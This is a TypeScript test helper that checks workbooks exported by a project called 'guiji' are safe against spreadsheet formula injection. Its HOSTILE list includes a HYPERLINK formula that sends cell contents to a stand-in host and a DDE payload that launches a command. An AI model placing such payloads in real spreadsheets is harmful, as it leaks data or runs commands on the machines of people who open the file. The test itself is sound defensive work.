import ExcelJS from 'exceljs';
import { expect } from 'vitest';
import yauzl from 'yauzl';

/** Values a clerk or a catalog could put into any cell guiji writes. */
export const HOSTILE = {
  hyperlink: '=HYPERLINK("http://example.invalid/?d="&A1,"点击查看")',
  dde: "+cmd|' /C calc'!A0",
  at: '@SUM(1)',
  minus: '-2+3',
  tab: '\t=1+1',
  carriageReturn: '\r=1+1',
  fullWidth: '＝1+1',
  /** Past Excel's 32,767 characters. */
  long: '界'.repeat(40_000),
  nul: '违法\u0000事实',
  controls: '处罚\u0001\u0008\u000B\u000C\u001F依据\uFFFE\uFFFF',
} as const;

export const FORMULA_LIKE = [
  HOSTILE.hyperlink,
  HOSTILE.dde,
  HOSTILE.at,
  HOSTILE.minus,
  HOSTILE.tab,
  HOSTILE.carriageReturn,
  HOSTILE.fullWidth,
];

/** A text as an XML parser gives it back: a carriage return in a cell's text reads as a line feed. */
export function asRead(text: string): string {
  return text.replace(/\r\n?/g, '\n');
}

/** What a spreadsheet reads as the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;
const XML_FORBIDDEN = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/;

/** Every entry of a zip (an xlsx) as text. */
export function unzipText(file: string): Promise<Map<string, string>> {
  return new Promise((resolve, reject) => {
    yauzl.open(file, { lazyEntries: true }, (error, zip) => {
      if (error || !zip) return reject(error);
      const out = new Map<string, string>();
      zip.on('entry', (entry: yauzl.Entry) => {
        zip.openReadStream(entry, (err, stream) => {
          if (err || !stream) return reject(err);
          const chunks: Buffer[] = [];
          stream.on('data', (c: Buffer) => chunks.push(c));
          stream.on('end', () => {
            out.set(entry.fileName, Buffer.concat(chunks).toString('utf8'));
            zip.readEntry();
          });
        });
      });
      zip.on('end', () => resolve(out));
      zip.on('error', reject);
      zip.readEntry();
    });
  });
}

/**
 * Reads a workbook back and asserts what every workbook guiji writes must hold: its XML parses (exceljs's
 * reader is a strict XML parser: a character XML 1.0 forbids fails it, as Excel calls such a file corrupt),
 * no part holds such a character, no cell is a formula or a text a spreadsheet would run as one, no cell holds
 * more than 32,767 characters. Returns every text cell, sheet by sheet, for the test's own assertions.
 */
export async function expectSafeWorkbook(file: string): Promise<Map<string, string[]>> {
  const parts = await unzipText(file);
  for (const [name, xml] of parts) {
    expect(XML_FORBIDDEN.test(xml), `${name} holds a character XML 1.0 forbids`).toBe(false);
    if (name.startsWith('xl/worksheets/')) expect(xml, name).not.toMatch(/<f[ >]/);
  }
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(file);
  const texts = new Map<string, string[]>();
  for (const sheet of book.worksheets) {
    const list: string[] = [];
    sheet.eachRow({ includeEmpty: false }, (row) => {
      row.eachCell({ includeEmpty: false }, (cell) => {
        const where = `${sheet.name}!${cell.address}`;
        expect(cell.type, where).not.toBe(ExcelJS.ValueType.Formula);
        const value = cell.value;
        const text =
          typeof value === 'string'
            ? value
            : value && typeof value === 'object' && 'richText' in value
              ? value.richText.map((r) => r.text).join('')
              : null;
        if (text === null) return;
        expect(text.length, where).toBeLessThanOrEqual(32_767);
        expect(FORMULA_START.test(text), `${where} begins like a formula: ${text.slice(0, 40)}`).toBe(false);
        list.push(text);
      });
    });
    texts.set(sheet.name, list);
  }
  return texts;
}
